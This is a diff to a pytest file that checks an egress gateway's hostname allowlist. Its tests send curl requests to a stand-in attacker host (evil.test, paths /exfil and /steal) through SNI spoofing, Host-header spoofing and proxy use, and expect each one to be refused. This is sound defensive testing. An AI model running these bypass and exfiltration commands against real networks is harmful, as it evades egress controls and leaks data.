@@ -16,6 +16,7 @@ import dns.rcode
 import dns.rdatatype
 import pytest
 
+from gh_testlib import scaled_arg
 import helpers
 import topology as T
 
@@ -74,7 +75,7 @@ def test_sni_spoofing_with_connect_to_is_refused(topo):
     """The client resolves an allowed name (so it reaches the gateway) but asks for another
     host in the ClientHello: curl --connect-to evil.test:443:api.example.test:443."""
     mark = topo.mark()
-    r = topo.client(["curl", "-sS", "-4", "--max-time", T.scaled_arg(10), "--cacert", topo.ca_path,
+    r = topo.client(["curl", "-sS", "-4", "--max-time", scaled_arg(10), "--cacert", topo.ca_path,
                      "--connect-to", "evil.test:443:api.example.test:443",
                      "https://evil.test/exfil"])
     topo.expect_query("api.example.test", "allow", CLIENT_ADDRS)
@@ -109,10 +110,10 @@ def test_sni_mismatch_on_routed_port_is_refused(topo):
 def test_blocked_host_gets_403(topo, how):
     mark = topo.mark()
     if how == "host-header":
-        argv = ["curl", "-sS", "-4", "-i", "--max-time", T.scaled_arg(10), "-H", "Host: evil.test",
+        argv = ["curl", "-sS", "-4", "-i", "--max-time", scaled_arg(10), "-H", "Host: evil.test",
                 "http://www.example.test/steal"]
     else:   # the gateway used as an HTTP proxy: GET http://evil.test/steal HTTP/1.1
-        argv = ["curl", "-sS", "-4", "-i", "--max-time", T.scaled_arg(10), "--proxy",
+        argv = ["curl", "-sS", "-4", "-i", "--max-time", scaled_arg(10), "--proxy",
                 "http://www.example.test:80", "http://evil.test/steal"]
     r = topo.client(argv)
     topo.expect_query("www.example.test", "allow", CLIENT_ADDRS)
@@ -130,7 +131,7 @@ def test_tls_without_a_name_is_refused(topo):
     """https://GATEWAY-IP/: curl sends no SNI for an IP literal, so there is no name to
     check; the forwarder refuses (unrecognized_name) instead of guessing."""
     mark = topo.mark()
-    r = topo.client(["curl", "-sS", "-k", "--max-time", T.scaled_arg(10), f"https://{T.GW_IN4}/"])
+    r = topo.client(["curl", "-sS", "-k", "--max-time", scaled_arg(10), f"https://{T.GW_IN4}/"])
     topo.expect_conn(443, "deny", None, (T.CLIENT4,), reason="no-name")
     assert r.returncode == 35, (r.returncode, r.stderr)
     assert helpers.tls_alert(r.stderr) == "unrecognized name", r.stderr
@@ -140,7 +141,7 @@ def test_tls_without_a_name_is_refused(topo):
 
 def test_ports_nobody_allowed_are_closed(topo):
     """The forwarder listens only on the ports the allowlist names."""
-    r = topo.client(["curl", "-sS", "-4", "--max-time", T.scaled_arg(5), "--cacert", topo.ca_path,
+    r = topo.client(["curl", "-sS", "-4", "--max-time", scaled_arg(5), "--cacert", topo.ca_path,
                      "https://api.example.test:8443/"])
     topo.expect_query("api.example.test", "allow", CLIENT_ADDRS)
     assert r.returncode == 7, (r.returncode, r.stderr)      # connection refused
